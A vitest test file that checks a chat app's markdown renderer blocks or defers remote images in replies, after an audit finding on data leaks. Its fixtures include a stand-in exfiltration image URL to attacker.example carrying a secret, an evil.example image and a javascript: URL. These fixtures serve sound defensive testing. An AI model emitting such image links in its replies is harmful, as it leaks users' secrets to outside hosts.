import { afterEach, describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';
import { onRemoteImageClick, setRemoteImageMode } from './remoteImages';

// Finding 9: `![x](http://host/leak?secret=…)` in a reply made the browser fetch it on render.
describe('remote images in replies (finding 9)', () => {
  afterEach(() => setRemoteImageMode('off'));

  const leak = '![chart](http://attacker.example/leak?secret=s3cr3t)';

  it('renders no image element for a remote image by default, only a placeholder with a link', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown(leak);
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('.remote-image-label')?.textContent).toContain('attacker.example');
    expect(host.querySelector('.remote-image a')?.getAttribute('href')).toBe('http://attacker.example/leak?secret=s3cr3t');
    expect(host.querySelector('button')).toBeNull();
  });

  it('loads the image only when clicked in click mode', () => {
    setRemoteImageMode('click');
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown(leak);
    expect(host.querySelector('img')).toBeNull();
    const button = host.querySelector<HTMLButtonElement>('[data-load-image]');
    expect(button).not.toBeNull();
    expect(onRemoteImageClick(button)).toBe(true);
    const img = host.querySelector('img');
    expect(img?.getAttribute('src')).toBe('http://attacker.example/leak?secret=s3cr3t');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('shows remote images directly only when the operator turned them on', () => {
    setRemoteImageMode('on');
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown(leak);
    expect(host.querySelector('img')?.getAttribute('src')).toBe('http://attacker.example/leak?secret=s3cr3t');
  });

  it('keeps inline and same-origin images as images', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown('![a](data:image/png;base64,iVBORw0KGgo=) ![b](/api/conversations/c1/images/i1)');
    expect(host.querySelectorAll('img')).toHaveLength(2);
  });

  it('turns protocol-relative and javascript: images into placeholders without a load button', () => {
    setRemoteImageMode('click');
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown('![a](//evil.example/x.png) ![b](javascript:alert(1))');
    expect(host.querySelector('img')).toBeNull();
    expect(host.innerHTML).not.toContain('javascript:');
  });
});
